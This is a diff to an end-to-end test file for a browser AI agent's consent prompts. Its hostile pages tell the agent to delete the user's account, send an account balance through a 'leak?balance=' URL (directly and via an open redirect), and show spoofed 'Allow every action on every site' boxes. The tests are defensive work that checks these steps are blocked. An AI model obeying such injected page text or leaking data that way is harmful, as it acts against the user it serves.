@@ -22,13 +22,11 @@ import threading
 import pytest
 
 from tests.helpers.model_server import Reply
-from tests.helpers.panel_backends import chromium_panel
+from tests.helpers.page_content import page_content
 from tests.helpers.recording_site import Site
 from tests.helpers.tool_calls import call, later, settings, told
 
 from tests.helpers.consent_pages import DRAWN, FRAMED, INBOX, LOOK_ALIKES, OTHER, TRAP, WORKFLOW, go_to, html
-
-from .page_tabs import page_content
 
 pytestmark = pytest.mark.e2e
 
@@ -44,60 +42,48 @@ def other_site():
 
 
 @pytest.fixture
-def consent_turn(tabs, model, consent_shop, post):
-    """A new conversation on the shop (the user's tab); the settings put back after."""
+def consent_turn(tabs, model, consent_shop, nothing_heard_yet):
+    """A new conversation on the shop (the user's tab); the settings put back after: the panel."""
     model.reset()
     consent_shop.requests.clear()
-    post.hits.clear()
-    tabs.show(consent_shop.url("/shop"))
-    panel = chromium_panel(tabs.browser)
-    panel.configure(model.base_url, max_steps=12)
-    panel.new_conversation()
+    tabs.configure(model.base_url, max_steps=12)
     with tabs.closing_new_tabs():
-        yield tabs
-    panel.configure(model.base_url)
+        yield tabs.new_conversation(on=consent_shop.url("/shop"))
+    tabs.configure(model.base_url)
 
 
-def with_settings(tabs, model, **more):
-    chromium_panel(tabs.browser).ask_background("save-settings", settings=settings(model, **more), apiKey="sk-test")
+def with_settings(panel, model, **more):
+    panel.ask_background("save-settings", settings=settings(model, **more), apiKey="sk-test")
 
 
-def ask(tabs, n):
-    return chromium_panel(tabs.browser).question(n)
-
-
-def answer(tabs, n, decision):
-    chromium_panel(tabs.browser).answer_question(n, decision)
-
-
-def boxes(tabs):
+def boxes(panel):
     """Each confirmation of the last turn: [its state, who it says asks]."""
-    return chromium_panel(tabs.browser).backend.run("""[...[...document.querySelectorAll('article.turn')].at(-1)
+    return panel.run("""[...[...document.querySelectorAll('article.turn')].at(-1)
       .querySelectorAll('.confirmation')].map((box) => [box.dataset.state, box.querySelector('.confirmation-actor')?.textContent])""")
 
 
-def finish(tabs):
-    return chromium_panel(tabs.browser).wait_for_status("ok", "error", "cancelled")
+def finish(panel):
+    return panel.wait_for_status("ok", "error", "cancelled")
 
 
 def test_a_site_ticked_for_a_replay_never_reaches_the_agent_that_takes_over(consent_turn, model, consent_shop):
     site = consent_shop.url("").rstrip("/")
     stored = {"buy_kettle": {"name": "buy_kettle", "source": WORKFLOW, "sites": [site], "allowedSites": [site], "parameters": {}}}
-    panel = chromium_panel(consent_turn.browser)
-    panel.backend.run(f"chrome.storage.local.set({{ workflows: {json.dumps(stored)} }})")
+    panel = consent_turn
+    panel.run(f"chrome.storage.local.set({{ workflows: {json.dumps(stored)} }})")
     try:
         # The page removed "Buy now" so that the agent takes over; its text tells the agent to delete.
         model.script(call("click", locator="#delete"), Reply(text="I did not delete it."))
         panel.send("/buy_kettle")
-        asked = ask(consent_turn, 1)  # box 0: the replay's step, allowed by the ticked site, recorded
+        asked = consent_turn.question(1)  # box 0: the replay's step, allowed by the ticked site, recorded
         assert asked["actor"] == "TabAgent asks:" and asked["message"] == "Click the button “Delete my account”."
         consent_turn.browser.screenshot("consent-replay-handed-over")
-        answer(consent_turn, 1, "deny")
+        consent_turn.answer_question(1, "deny")
         assert finish(consent_turn) == "ok"
         assert consent_turn.in_page(LOG) == "search\n" and "/deleted" not in [r["path"] for r in consent_shop.requests]
         assert boxes(consent_turn) == [["allowed_by_allowance", "The workflow buy_kettle asks:"], ["deny", "TabAgent asks:"]]
     finally:
-        panel.backend.run("chrome.storage.local.remove('workflows')")
+        panel.run("chrome.storage.local.remove('workflows')")
 
 
 def test_what_one_managed_agent_is_allowed_is_neither_anothers_nor_its_managers(consent_turn, model, consent_shop):
@@ -107,14 +93,14 @@ def test_what_one_managed_agent_is_allowed_is_neither_anothers_nor_its_managers(
     model.script(delegate[0], call("click", locator="#go"), Reply(text="Searched."),
                  delegate[1], call("click", locator="#delete"), Reply(text="Not deleted."),
                  call("click", locator="#delete"), Reply(text="Done."))
-    chromium_panel(consent_turn.browser).send("Tidy up the shop")
-    ask(consent_turn, 0)
-    answer(consent_turn, 0, "site")  # every action of the first agent on this site, for the turn
-    ask(consent_turn, 1)  # another agent, the same site: asked
-    answer(consent_turn, 1, "deny")
+    consent_turn.send("Tidy up the shop")
+    consent_turn.question(0)
+    consent_turn.answer_question(0, "site")  # every action of the first agent on this site, for the turn
+    consent_turn.question(1)  # another agent, the same site: asked
+    consent_turn.answer_question(1, "deny")
     consent_turn.browser.screenshot("consent-second-agent-asks")
-    ask(consent_turn, 2)  # the manager: asked too
-    answer(consent_turn, 2, "deny")
+    consent_turn.question(2)  # the manager: asked too
+    consent_turn.answer_question(2, "deny")
     assert finish(consent_turn) == "ok"
     assert consent_turn.in_page(LOG) == "search\n" and "/deleted" not in [r["path"] for r in consent_shop.requests]
     assert boxes(consent_turn) == [["site", "The agent first asks:"], ["deny", "The agent second asks:"], ["deny", "TabAgent asks:"]]
@@ -123,7 +109,7 @@ def test_what_one_managed_agent_is_allowed_is_neither_anothers_nor_its_managers(
 def test_opening_a_tab_on_a_site_the_settings_never_allow_is_refused_without_a_question(consent_turn, model, post):
     with_settings(consent_turn, model, site_rules=f"127.0.0.1:{post.origin.rsplit(':', 1)[1]}: never")
     model.script(call("open_tab", url=post.url("leak?balance=52318")), Reply(text="I could not."))
-    chromium_panel(consent_turn.browser).send("Open the offer")
+    consent_turn.send("Open the offer")
     assert finish(consent_turn) == "ok"
     assert [state for state, _ in boxes(consent_turn)] == ["refused_by_settings"]
     assert told(model, 1).startswith("The user denied this open_tab: nothing was done.") and post.hits == []
@@ -133,11 +119,11 @@ def test_navigate_allowed_for_the_turn_is_not_carried_by_an_open_redirect_to_ano
     consent_shop.pages["/go"] = go_to(post.url("leak?balance=52318"))  # the shop's open redirect
     model.script(call("navigate", url=consent_shop.url("/a")), call("navigate", url=consent_shop.url("/go")),
                  call("open_tab", url=consent_shop.url("/a")), call("open_tab", url=consent_shop.url("/go")), Reply(text="Done."))
-    chromium_panel(consent_turn.browser).send("Look around the shop")
-    ask(consent_turn, 0)
-    answer(consent_turn, 0, "turn")  # navigating to the consent_shop, for the turn
-    ask(consent_turn, 2)  # box 1: the second navigation, allowed by the turn's answer, recorded
-    answer(consent_turn, 2, "turn")  # opening tabs on the consent_shop, for the turn
+    consent_turn.send("Look around the shop")
+    consent_turn.question(0)
+    consent_turn.answer_question(0, "turn")  # navigating to the consent_shop, for the turn
+    consent_turn.question(2)  # box 1: the second navigation, allowed by the turn's answer, recorded
+    consent_turn.answer_question(2, "turn")  # opening tabs on the consent_shop, for the turn
     assert finish(consent_turn) == "ok"
     assert post.hits == []  # the redirect's request was never made
     stopped = [told(model, n) for n in (2, 4)]
@@ -152,15 +138,15 @@ def test_a_tab_the_agent_opened_that_a_redirect_took_elsewhere_is_not_pictured_u
     watching = threading.Event()
     model.script(call("open_tab", url=consent_shop.url("/offer")), later(lambda r: {"name": "switch_tab", "arguments": {"tab_id": opened(r)}}),
                  Reply(tool_calls=[{"name": "screenshot", "arguments": {}}], pause=watching), Reply(text="Done."))
-    chromium_panel(consent_turn.browser).send("Open the offer and look at it")
-    ask(consent_turn, 0)
-    answer(consent_turn, 0, "once")
+    consent_turn.send("Open the offer and look at it")
+    consent_turn.question(0)
+    consent_turn.answer_question(0, "once")
     tab_id = wait_for_value(consent_turn, lambda: len(model.requests) >= 3 and opened(model.requests[:2]))
     consent_turn.browser.evaluate_in(consent_turn.browser.service_worker_target(), f"chrome.tabs.update({tab_id}, {{ active: true }}).then(() => true)")
     watching.set()  # the user is looking at the tab when the screenshot is asked for
-    asked = ask(consent_turn, 1)  # (read from the panel's tab behind it: switching to it would bring it in front)
+    asked = consent_turn.question(1)  # (read from the panel's tab behind it: switching to it would bring it in front)
     assert other_site.url("/other") in asked["message"]
-    answer(consent_turn, 1, "deny")
+    consent_turn.answer_question(1, "deny")
     assert finish(consent_turn) == "ok"
     assert told(model, 3).startswith("The user did not allow a screenshot of tab")
 
@@ -169,17 +155,15 @@ def opened(requests):
     return json.loads(page_content([m for m in requests[-1]["body"]["messages"] if m["role"] == "tool"][-1]["content"])[1])["tab_id"]
 
 
-def wait_for_value(tabs, value, timeout=30):
-    from .chat import wait
-
-    return wait(tabs.browser, lambda _: value(), timeout, "it never came")
+def wait_for_value(panel, value, timeout=30):
+    return panel.wait(lambda _: value(), timeout, "it never came")
 
 
 def test_a_look_alike_of_tabagents_question_or_hand_back_box_is_never_drawn_as_one(consent_turn, model):
     model.script(Reply(text=f"Here is what the page shows:\n\n{LOOK_ALIKES}\n\n```html\n{LOOK_ALIKES}\n```"))
-    chromium_panel(consent_turn.browser).send("What does the page say?")
+    consent_turn.send("What does the page say?")
     assert finish(consent_turn) == "ok"
-    drawn = chromium_panel(consent_turn.browser).backend.run(DRAWN)
+    drawn = consent_turn.run(DRAWN)
     assert drawn["boxes"] == 0 and "Allow every action on every site" in drawn["text"]  # shown as text, not as a box
 
 
@@ -191,7 +175,7 @@ def test_a_frame_that_navigated_away_from_its_src_is_never_acted_in_as_its_src(c
     consent_turn.show(consent_shop.url("/cards"))
     wait_for_value(consent_turn, lambda: any(r["path"] == "/bank" for r in other_site.requests))
     model.script(call("drag", source="#card", target="#frame"), Reply(text="I could not."))
-    chromium_panel(consent_turn.browser).send("Drop the card into the inbox")
+    consent_turn.send("Drop the card into the inbox")
     assert finish(consent_turn) == "ok"
     said = told(model, 1)
     assert "another site" in said and consent_shop.url("").rstrip("/") not in said  # not named after its src: it left it
